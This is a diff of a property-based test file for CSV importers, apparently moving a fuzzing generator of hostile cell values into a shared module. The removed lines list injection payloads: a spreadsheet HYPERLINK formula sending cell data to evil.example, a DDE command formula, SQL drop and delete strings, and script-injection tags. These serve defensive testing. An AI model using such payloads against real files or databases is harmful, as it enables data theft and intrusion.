@@ -2,6 +2,7 @@ import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { DATASETS } from "../app/domain/hjp/datasets";
 import { exampleRow } from "../app/domain/hjp/templates";
+import { HOSTILE_SEED, hostileCell } from "../tests/setup/hostile";
 import { importers } from "./all";
 import type { RowResult, TabularParser } from "./shared/types";
 
@@ -12,44 +13,6 @@ import type { RowResult, TabularParser } from "./shared/types";
  * file can smuggle in; tests/integration/hostile-import.test.ts proves rejected files
  * leave the database unchanged.
  */
-const hostileCell = fc.oneof(
-  fc.string({ unit: "binary", maxLength: 80 }),
-  fc.string({ unit: "grapheme", maxLength: 40 }),
-  fc.string({ maxLength: 5_000, minLength: 1_000 }),
-  fc.constantFrom(
-    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
-    "=cmd|' /C calc'!A0",
-    "@SUM(1+1)",
-    "'; drop table hjp_episodes; --",
-    "1; delete from users",
-    "<img src=x onerror=alert(1)>",
-    "</script><script>alert(1)</script>",
-    "\u0000",
-    "\uFEFF",
-    "\u202Eevil",
-    "NaN",
-    "Infinity",
-    "-1e308",
-    "1e309",
-    "-0",
-    "99999999999999999999999",
-    "-42",
-    "0001-01-01",
-    "9999-12-31",
-    "2025-02-30",
-    "1900-01-01",
-    "31/12/2025",
-    "",
-    " ",
-  ),
-  fc.integer().map(String),
-  fc.double().map(String),
-);
-
-// A fixed seed: every run tries the same cases, so CI cannot pass or fail by luck; change
-// it (or unset it locally) to explore further.
-const SEED = 20_261_128;
-
 const tabular = Object.values(importers).filter((i) => i.parser.format === "csv");
 
 function expectWellFormed(result: RowResult<unknown>, context: string) {
@@ -74,7 +37,7 @@ describe("every importer's parse step, fed hostile rows", () => {
         }).not.toThrow();
         expectWellFormed(result!, JSON.stringify(values).slice(0, 300));
       }),
-      { numRuns: 150, seed: SEED },
+      { numRuns: 150, seed: HOSTILE_SEED },
     );
   });
 });
@@ -107,7 +70,7 @@ describe("an HJP template row with one hostile cell", () => {
             if (/^[=@]/.test(value.trim()) && value.trim().length > 1) expect(stored).toContain(JSON.stringify(value.trim()).slice(1, -1).slice(0, 20));
           }
         }),
-        { numRuns: 400, seed: SEED },
+        { numRuns: 400, seed: HOSTILE_SEED },
       );
     });
   }
